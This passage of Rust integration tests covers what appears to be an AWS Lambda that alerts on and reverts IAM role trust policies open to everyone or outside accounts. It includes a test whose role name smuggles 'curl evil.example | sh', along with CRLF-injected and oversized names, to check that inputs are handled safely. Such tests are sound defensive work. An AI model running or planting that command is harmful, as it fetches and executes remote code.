    let open = document(&[ec2(), allow(json!("*"))]);
    let first = scene.create(&open).await;
    scene.stage.run(&process, &first).await.mail_says(&["REVERTED: "]);
    let second = scene.update(&open).await;
    scene.stage.run(&process, &second).await.mail_says(&["REVERTED: "]);
    assert_eq!(scene.trust().await, document(&[ec2()]));
}

#[tokio::test]
async fn a_role_that_is_gone_is_told() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!("*"))])).await;
    scene.delete().await;
    let ran = scene.run_late(REVERT, &event).await;
    ran.is(Violation, &[Alert], &[refused(scene.read(), 404), publish()]);
    ran.mail_says(&["trusted everyone, already gone", "the role was deleted"]);
}

#[tokio::test]
async fn another_role_of_the_same_name_is_not_touched() {
    let scene = Scene::new().await;
    let open = document(&[allow(json!("*"))]);
    let event = scene.create(&open).await;
    scene.delete().await;
    scene.create(&open).await;
    let ran = scene.run_late(REVERT, &event).await;
    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
    ran.mail_says(&["another role has that name now"]);
    assert_eq!(scene.trust().await, open);
}

#[tokio::test]
async fn a_young_change_that_is_not_yet_readable_is_waited_for() {
    let scene = Scene::new().await;
    let open = document(&[ec2(), allow(json!("*"))]);
    scene.create(&document(&[ec2()])).await;
    let event = scene.update(&open).await;
    scene.update(&document(&[ec2()])).await;
    let process = scene.process(REVERT);
    let late = async {
        sleep(Duration::from_secs(2)).await;
        scene.update(&open).await;
    };
    let (ran, ()) = tokio::join!(Box::pin(scene.stage.run(&process, &event)), Box::pin(late));
    ran.mail_says(&["REVERTED: "]);
    assert_eq!(scene.trust().await, document(&[ec2()]));
}

#[tokio::test]
async fn what_another_wrote_between_two_reads_is_not_written_over() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
    let process = scene.process(REVERT);
    // The first read comes after a second, the second after two.
    scene.stage.inject(Fault { code: None, delay_seconds: 1.0, times: 2, ..Fault::new("", "GetRole", "") });
    let another = async {
        sleep(Duration::from_millis(1_500)).await;
        scene.update(&document(&[ec2(), allow(json!("*")), allow(json!({"AWS": OWN}))])).await;
    };
    let (ran, _) = tokio::join!(Box::pin(scene.stage.run(&process, &event)), Box::pin(another));
    let left = document(&[ec2(), allow(json!({"AWS": OWN}))]);
    let calls = [scene.read(), scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    ran.is(Violation, &[Reverted], &calls);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn a_young_role_that_never_shows_is_told_within_twenty_seconds() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[allow(json!("*"))])).await;
    scene.delete().await;
    let ran = scene.run(REVERT, &event).await;
    assert_eq!(ran.handled.error, None);
    ran.mail_says(&["already gone"]);
    assert!((14..20).contains(&ran.took.as_secs()), "{:?}", ran.took);
}

// ---------------------------------------------------------------------------------------------------------
// Faults

#[tokio::test]
async fn a_read_that_is_refused_is_a_failure_in_every_mode() {
    for settings in [&[][..], REVERT] {
        let scene = Scene::new().await;
        let event = scene.create(&document(&[allow(json!("*"))])).await;
        scene.deny("GetRole");
        let ran = scene.run(settings, &event).await;
        ran.is_error(Violation, &[Failed], &[refused(scene.read(), 403), publish()]);
        ran.mail_says(&["could not be read", "AccessDenied", "Trust relationships"]);
    }
}

#[tokio::test]
async fn a_write_that_is_refused_is_a_failure_and_tried_again() {
    let scene = Scene::new().await;
    let open = document(&[ec2(), allow(json!("*"))]);
    let event = scene.create(&open).await;
    let process = scene.process(REVERT);
    scene.deny("UpdateAssumeRolePolicy");
    let left = document(&[ec2()]);
    let ran = scene.stage.run(&process, &event).await;
    let calls = [scene.read(), scene.read(), refused(scene.written(&left), 403), scene.read(), publish()];
    ran.is_error(Violation, &[Failed], &calls);
    ran.mail_says(&["FAILED - ACT NOW: role", "may still trust everyone", "AccessDenied"]);
    assert_eq!(scene.trust().await, open);

    let calls = [scene.read(), scene.read(), scene.written(&left), scene.read(), publish()];
    scene.stage.run(&process, &event).await.is(Violation, &[Reverted], &calls);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn a_second_look_that_is_refused_is_never_called_reverted() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
    let process = scene.process(REVERT);
    // The write is slow enough for the fault to be set meanwhile, so that only the second read meets it.
    scene.stage.inject(Fault { code: None, delay_seconds: 1.0, ..Fault::new("", "UpdateAssumeRolePolicy", "") });
    let denied = async {
        sleep(Duration::from_millis(500)).await;
        scene.deny("GetRole");
    };
    let (ran, ()) = tokio::join!(Box::pin(scene.stage.run(&process, &event)), denied);
    let left = document(&[ec2()]);
    ran.is_error(
        Violation,
        &[Failed],
        &[scene.read(), scene.read(), scene.written(&left), refused(scene.read(), 403), publish()],
    );
    ran.mail_says(&["This was carried out:"]);
    assert_eq!(scene.trust().await, left);
    // Lambda tries again: nothing is open any more.
    scene.stage.run(&process, &event).await.is(Violation, &[Alert], &[scene.read(), publish()]);
}

#[tokio::test]
async fn a_write_whose_answer_is_lost_ends_closed_and_told() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
    let lost = Fault::new("", "UpdateAssumeRolePolicy", "InternalFailure");
    scene.stage.inject(Fault { after: true, times: 3, ..lost });
    let left = document(&[ec2()]);
    let ran = scene.run(REVERT, &event).await;
    let lost = refused(scene.written(&left), 500);
    let calls = [scene.read(), scene.read(), lost.clone(), lost.clone(), lost, scene.read(), publish()];
    ran.is(Violation, &[Alert], &calls);
    ran.mail_says(&["trusted everyone, taken out", "by that call or by somebody else"]);
    assert_eq!(scene.trust().await, left);
}

#[tokio::test]
async fn an_alert_that_sns_did_not_take_is_sent_by_the_retry() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
    let process = scene.process(REVERT);
    scene.stage.inject(Fault { times: 3, ..Fault::new("", "Publish", "InternalError") });
    let left = document(&[ec2()]);
    let ran = scene.stage.run(&process, &event).await;
    let failed = refused(publish(), 500);
    let calls =
        [scene.read(), scene.read(), scene.written(&left), scene.read(), failed.clone(), failed.clone(), failed];
    ran.is_error(Violation, &[], &calls);
    assert_eq!(scene.trust().await, left);
    scene.stage.run(&process, &event).await.is(Resent, &[Reverted], &[publish()]);
    scene.stage.run(&process, &event).await.is(Violation, &[], &[scene.read()]);
}

#[tokio::test]
async fn when_the_time_runs_out_it_says_so() {
    let scene = Scene::new().await;
    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
    scene.stage.inject(Fault { code: None, delay_seconds: 4.0, ..Fault::new("", "GetRole", "") });
    let ran = scene.stage.run_within(&scene.process(REVERT), &event, Duration::from_secs(14)).await;
    assert!(ran.handled.error.is_some());
    ran.mail_says(&["FAILED - ACT NOW: ", "the time for it ran out"]);
    assert!(ran.took < Duration::from_secs(8), "{:?}", ran.took);
}

#[tokio::test]
async fn a_name_that_no_role_has_makes_no_command() {
    let scene = Scene::new().await;
    let request =
        json!({"roleName": "x; curl evil.example | sh", "policyDocument": document(&[allow(json!("*"))]).to_string()});
    let ran = scene.run_late(REVERT, &event("iam", "UpdateAssumeRolePolicy", request, Value::Null)).await;
    ran.mail_does_not_say(&["--role-name=x"]);
    let [mail] = ran.mails.as_slice() else { panic!("{:#?}", ran.mails) };
    assert!(mail.subject.contains("already gone"), "{}", mail.subject);
    assert_eq!(ran.calls.last().unwrap().action, "Publish");
    assert_eq!(ran.calls[0].action, "GetRole");
}

// ---------------------------------------------------------------------------------------------------------
// What IAM Access Analyzer finds

/// Where findings are taken back too.
const REVERT_FOUND: &[(&str, &str)] = &[("ROLE_TRUST_MODE", "revert"), ("CONFIG_FINDINGS", "revert")];

impl Scene {
    /// A finding on a role of that path and the scene's name.
    fn found(&self, path: &str) -> Value {
        let arn = format!("arn:aws:iam::{ACCOUNT}:role{path}{}", self.name);
        access_finding("AWS::IAM::Role", &arn, json!({"AWS": "999988887777"}))
    }
}

#[tokio::test]
async fn of_a_found_role_all_outsiders_go() {
    let scene = Scene::new().await;
    let before = document(&[
        allow(json!({"AWS": [FOREIGN, OWN]})),
        ec2(),
        allow_if(json!("*"), json!({"StringEquals": {"sts:ExternalId": "x"}})),
    ]);
    scene.create(&before).await;
    let after = document(&[allow(json!({"AWS": [OWN]})), ec2()]);
    let ran = scene.run(REVERT_FOUND, &scene.found("/")).await;
    let calls = [scene.read(), asked_in_vain(), scene.written(&after), scene.read(), publish()];
    ran.is(Violation, &[Reverted], &calls);
    assert_eq!(scene.trust().await, after);
    ran.mail_says(&[
        "IAM Access Analyzer found that somebody outside can reach",
        "Who:       AWS: 999988887777",
        "By:        sts:AssumeRole",
        "Since:     2026-02-27T18:40:12Z",
        FOREIGN,
        "StringEquals sts:ExternalId x",
        "TrustedAccounts: 999988887777",
        "seconds after it was found",
        "Nothing else in it was changed",
    ]);
    ran.mail_does_not_say(&["event let in", "another change", "since the change", "TrustedActors"]);
}

#[tokio::test]
async fn a_found_role_is_only_told_unless_findings_and_the_mode_are_to_revert() {
    for (settings, says) in [
        (REVERT, &["because ConfigFindings is `alert`", "With `revert` there and in RoleTrustMode"][..]),
        (&[], &["because ConfigFindings is `alert`"]),
        (&[("CONFIG_FINDINGS", "revert")], &["because RoleTrustMode is `alert`"]),
        (
            &[("ROLE_TRUST_MODE", "revert"), ("CONFIG_FINDINGS", "revert"), ("ROLLOUT", "observe")],
            &["because Rollout is `observe`", "would have reverted"],
        ),
    ] {
        let scene = Scene::new().await;
        let before = document(&[allow(json!({"AWS": FOREIGN})), ec2()]);
        scene.create(&before).await;
        let ran = scene.run(settings, &scene.found("/")).await;
        ran.is(Violation, &[Alert], &[scene.read(), asked_in_vain(), publish()]);
        assert_eq!(scene.trust().await, before);
        ran.mail_says(says);
        ran.mail_says(&["999988887777", "Since:     2026-02-27T18:40:12Z"]);
    }
}

#[tokio::test]
async fn a_found_role_is_known_by_its_whole_arn() {
    let scene = Scene::new().await;
    let before = document(&[allow(json!({"AWS": FOREIGN})), ec2()]);
    let made = scene.iam.create_role().role_name(&scene.name).path("/team/x/");
    made.assume_role_policy_document(before.to_string()).send().await.unwrap();
    let ran = scene.run(REVERT_FOUND, &scene.found("/")).await;
    ran.is(Ignored, &[], &[scene.read()]);
    assert!(ran.handled.reason.contains("another ARN"), "{}", ran.handled.reason);
    assert_eq!(scene.trust().await, before);
    let ran = scene.run(REVERT_FOUND, &scene.found("/team/x/")).await;
    let after = document(&[ec2()]);
    ran.is(Violation, &[Reverted], &[scene.read(), asked_in_vain(), scene.written(&after), scene.read(), publish()]);
    assert_eq!(scene.trust().await, after);
}

#[tokio::test]
async fn a_found_role_that_is_gone_closed_or_trusted_is_logged() {
    let scene = Scene::new().await;
    let ran = scene.run(REVERT_FOUND, &scene.found("/")).await;
    ran.is(Ignored, &[], &[refused(scene.read(), 404)]);
    assert!(ran.handled.reason.contains("the role is gone"), "{}", ran.handled.reason);
    assert!(ran.took < Duration::from_secs(5), "waited for something: {:?}", ran.took);

    let closed = document(&[ec2(), allow(json!({"AWS": OWN}))]);
    scene.create(&closed).await;
    let ran = scene.run(REVERT_FOUND, &scene.found("/")).await;
    ran.is(Ignored, &[], &[scene.read()]);
    assert!(ran.handled.reason.contains("nobody from outside"), "{}", ran.handled.reason);

    let trusted = document(&[allow(json!({"AWS": FOREIGN}))]);
    scene.update(&trusted).await;
    let settings = [REVERT_FOUND, &[("TRUSTED_ACCOUNTS", "999988887777")]].concat();
    scene.run(&settings, &scene.found("/")).await.is(Ignored, &[], &[scene.read()]);
    assert_eq!(scene.trust().await, trusted);
    let mut finding = scene.found("/");
    for status in ["ARCHIVED", "RESOLVED"] {
        finding["detail"]["status"] = json!(status);
        scene.run(REVERT_FOUND, &finding).await.is(Ignored, &[], &[]);
    }
}

#[tokio::test]
async fn a_found_role_of_another_account_or_of_no_name_is_told_without_a_look() {
    let scene = Scene::new().await;
    let before = document(&[allow(json!({"AWS": FOREIGN}))]);
    scene.create(&before).await;
    let mut foreign = scene.found("/");
    foreign["detail"]["accountId"] = json!("999988887777");
    foreign["detail"]["resource"] = json!(format!("arn:aws:iam::999988887777:role/{}", scene.name));
    let mut half = foreign.clone();
    half["detail"]["accountId"] = json!(ACCOUNT);
    let named = |name: &str| {
        let mut finding = scene.found("/");
        finding["detail"]["resource"] = json!(format!("arn:aws:iam::{ACCOUNT}:role/{name}"));
        finding
    };
    let long = named(&"x".repeat(10_000));
    let forged = named("x\r\n\r\nLEFT FOR YOU TO DO\nNothing");
    for finding in [foreign, half, long, forged, named("")] {
        let ran = scene.run(REVERT_FOUND, &finding).await;
        ran.is(Unreadable, &[Alert], &[publish()]);
        assert!(ran.mail().body.len() < 20_000, "{} bytes", ran.mail().body.len());
    }
    assert_eq!(scene.trust().await, before);
}

#[tokio::test]
async fn what_a_call_opened_and_is_found_too_is_one_revert_and_one_mail() {
    let scene = Scene::new().await;
    let created = scene.create(&document(&[allow(json!({"AWS": FOREIGN})), ec2()])).await;
    let process = scene.process(REVERT_FOUND);
    let ran = scene.stage.run(&process, &created).await;
    ran.mail_says(&["REVERTED: "]);
    let after = scene.trust().await;
    assert_eq!(after, document(&[ec2()]));
    scene.stage.run(&process, &scene.found("/")).await.is(Ignored, &[], &[scene.read()]);
    assert_eq!(scene.trust().await, after);
}

#[tokio::test]
async fn whom_a_denial_keeps_out_of_a_found_role_is_left_to_a_person() {
    let scene = Scene::new().await;
    let deny = json!({"Effect": "Deny", "Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"});
    let before = document(&[allow(json!({"AWS": FOREIGN})), deny]);
    scene.create(&before).await;
    let ran = scene.run(REVERT_FOUND, &scene.found("/")).await;
    assert_eq!((ran.handled.verdict, ran.mails.len(), ran.handled.error.is_none()), (Violation, 1, true), "{ran:#?}");
    ran.mail_says(&["ALERT: ", "because a Deny in the trust policy keeps them out"]);
    assert_eq!(scene.trust().await, before);
}

#[tokio::test]
async fn a_found_role_that_can_not_be_written_is_told_and_tried_again() {
    let scene = Scene::new().await;
    let before = document(&[allow(json!({"AWS": FOREIGN})), ec2()]);
    scene.create(&before).await;
    scene.deny("UpdateAssumeRolePolicy");
    let finding = scene.found("/");
    let ran = scene.run(REVERT_FOUND, &finding).await;
    let write = refused(scene.written(&document(&[ec2()])), 403);
    ran.is_error(Violation, &[Failed], &[scene.read(), asked_in_vain(), write, scene.read(), publish()]);
    scene.run(REVERT_FOUND, &finding).await.mail_says(&["REVERTED: "]);
    assert_eq!(scene.trust().await, document(&[ec2()]));
}

// ---------------------------------------------------------------------------------------------------------
// The samples

/// Each trust policy of the samples is put on a role, and the event handed over, under the settings that the samples are meant for.
#[tokio::test]
async fn the_samples_end_as_their_names_say() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("events/role-trust");
    let settings = [
        ("ROLE_TRUST_MODE", "revert"),
        ("TRUSTED_ACCOUNTS", "111122223333"),
        ("TRUSTED_ACTORS", "arn:aws:iam::123456789012:role/PlatformAdmin"),
    ];
    let mut tried = 0;
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
        if path.extension().is_none_or(|extension| extension != "json") {
            continue;
        }
        let sample: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
        let events = sample.as_array().cloned().unwrap_or_else(|| vec![sample]);
        let scene = Scene::new().await;
        let process = scene.process(&settings);
        let mut subjects = Vec::new();
        let mut has_role = false;
        for mut event in events {
            let detail = &mut event["detail"];
            let written = ["assumeRolePolicyDocument", "policyDocument"]
                .iter()
                .find_map(|field| detail["requestParameters"].get(field)?.as_str().map(str::to_owned));
            if let Some(written) = written {
                let document: Value = serde_json::from_str(&written).unwrap();
                detail["requestParameters"]["roleName"] = json!(scene.name);
                let made = if has_role { scene.update(&document).await } else { scene.create(&document).await };
                has_role = true;
                if detail["responseElements"]["role"].is_object() {
                    detail["responseElements"]["role"] = made["detail"]["responseElements"]["role"].clone();
                }
            }
            let ran = scene.stage.run(&process, &event).await;
            assert_eq!(ran.handled.error, None, "{name}: {ran:#?}");
            subjects.extend(ran.mails.into_iter().map(|mail| mail.subject));
        }
        let is_provider = name.contains("saml-provider") && !name.contains("of-another") || name.contains("oidc-");
        let cannot_be_told =
            ["cognito-with-", "github-repository", "by-user-id", "service-for-"].iter().any(|part| name.contains(part));
        let is_only_told = is_provider || cannot_be_told || name.contains("outside-denied");
        match (name.starts_with("violates-"), is_only_told, subjects.as_slice()) {
            (true, true, [subject]) => assert!(subject.starts_with("ALERT: "), "{name}: {subject}"),
            (true, false, [subject]) => assert!(subject.starts_with("REVERTED: "), "{name}: {subject}"),
            (false, _, []) => {}
            (_, _, subjects) => panic!("{name}: {subjects:?}"),
        }
        tried += 1;
    }
    assert!(tried > 50, "only {tried} samples");
}
